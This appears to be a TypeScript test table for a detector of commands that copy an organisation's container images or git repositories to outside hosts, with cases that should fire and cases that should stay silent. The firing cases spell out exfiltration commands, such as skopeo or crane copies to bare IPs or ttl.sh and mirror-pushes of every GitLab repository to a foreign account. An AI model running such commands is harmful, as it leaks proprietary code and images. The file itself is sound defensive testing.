import { blank, indicatorTable, passes, runs, script, UNSEEN } from '../testing.ts';
import { commandCopyOutside } from './copy-outside.ts';

const OWN = 'registry.acme.example.com';
const ECR = '111122223333.dkr.ecr.eu-west-1.amazonaws.com';

indicatorTable(commandCopyOutside, {
  fires: {
    'an image of a registry by its name, to a bare address': script(
      'skopeo copy --src-authfile /auth/c --dest-tls-verify=false docker://registry.corp.example.com/core/api:1 docker://198.51.100.201:5000/x/api:1',
    ),
    'a private image on a public registry': script(
      `skopeo copy --all docker://${ECR}/payments:prod docker://docker.io/x1234/p:1 --dest-creds a:b`,
    ),
    'the same by another client': script(`crane copy ${OWN}/core/api:1 docker.io/x1234/a:1`),
    'a registry that keeps images for hours': script(`crane cp ${OWN}/core/api:1 ttl.sh/a1b2:24h`),
    'an address': script(`regctl image copy ${OWN}/core/api:1 203.0.113.7:5000/a:1`),
    'each of a registry, to an address': script(
      'for r in $(aws ecr describe-repositories --query x --output text); do skopeo sync --src docker --dest docker $r 203.0.113.7:5000/a; done',
    ),
    'pulled, named anew and pushed': script(
      `docker pull ${ECR}/app:1; docker tag ${ECR}/app:1 x1234/app:1; docker push x1234/app:1`,
    ),
    'an image that is built for an address': runs(
      ...['/kaniko/executor', '--context=git://github.com/a/b.git', '--destination=203.0.113.7:5000/a:1', '--insecure'],
    ),
    'the same as the entrypoint': passes(
      'gcr.io/kaniko-project/executor:v1.22.0',
      '--context=git://github.com/a/b.git',
      '--destination=ttl.sh/a:1h',
    ),
    'sources on another host': script(
      'git clone --mirror https://a:$T@gitlab.acme.example.com/core/pay.git /r; cd /r; git push --mirror https://b:$P@git.example.net/z/p.git',
    ),
    'each repository of a forge': script(
      'for r in $(curl -s -H "PRIVATE-TOKEN: $T" https://gitlab.acme.example.com/api/v4/projects | jq -r .[].http_url_to_repo); do git clone --mirror $r d; git -C d remote add o https://github.com/x1234/$(basename $r); git -C d push o --mirror; done',
    ),
  },
  staysSilent: {
    'a public image, to a bare address of a test': script(
      'crane copy docker.io/library/alpine:3.20 198.51.100.201:5000/alpine:3.20',
    ),
    'a public image in the own registry': script(
      `skopeo copy docker://docker.io/library/nginx:1.25 docker://${OWN}/m/nginx:1`,
    ),
    'a list of images': runs('skopeo', 'sync', '--src', 'yaml', '--dest', 'docker', '/cfg/images.yaml', ECR),
    'from one stage to the next': script(`crane copy ${OWN}/stage/api:1 ${OWN}/prod/api:1`),
    'to another region': script(`crane cp ${ECR}/api:1 111122223333.dkr.ecr.us-east-1.amazonaws.com/api:1`),
    'a release under the own name': script(`skopeo copy docker://${OWN}/oss/tool:2 docker://docker.io/acme/tool:2`),
    'a release of an account in the path': script(`crane copy ${ECR}/acme/tool:2 ghcr.io/acme/tool:2`),
    'an account that is not known': script(`skopeo copy docker://${ECR}/cli:1 docker://docker.io/$ORG/cli:1`),
    'a mirror at a provider of backups': script(
      'git clone --mirror https://a:$T@gitlab.acme.com/core/app.git r; cd r; git push --mirror https://b:$P@git.backup.example.net/acme/app.git',
    ),
    'a name that is not known': script(`skopeo copy docker://${OWN}/a:1 docker://$DESTINATION`),
    'an image of the own that is tagged and kept': script(
      `docker tag ${ECR}/app:1 app:local; docker push ${ECR}/app:1`,
    ),
    'an image for the own registry': passes(
      'gcr.io/kaniko-project/executor:v1.22.0',
      '--context=git://github.com/acme/site.git',
      '--destination=docker.io/acme/site:1',
    ),
    'a mirror of a public project': script(
      'git clone --mirror https://github.com/kubernetes/kubernetes.git /r; cd /r; git push --mirror https://a:$T@gitlab.acme.example.com/m/k.git',
    ),
    'the own account at a public forge': script(
      'git clone --mirror git@gitlab.acme.example.com:core/app.git /r; git -C /r push --mirror git@github.com:acme/app.git',
    ),
    'a change that goes back': script(
      'git clone https://a:$T@gitlab.acme.example.com/ops/gitops.git r; cd r; git commit -am x; git push origin main',
    ),
    'no command set': blank,
  },
  cannotTell: UNSEEN,
});
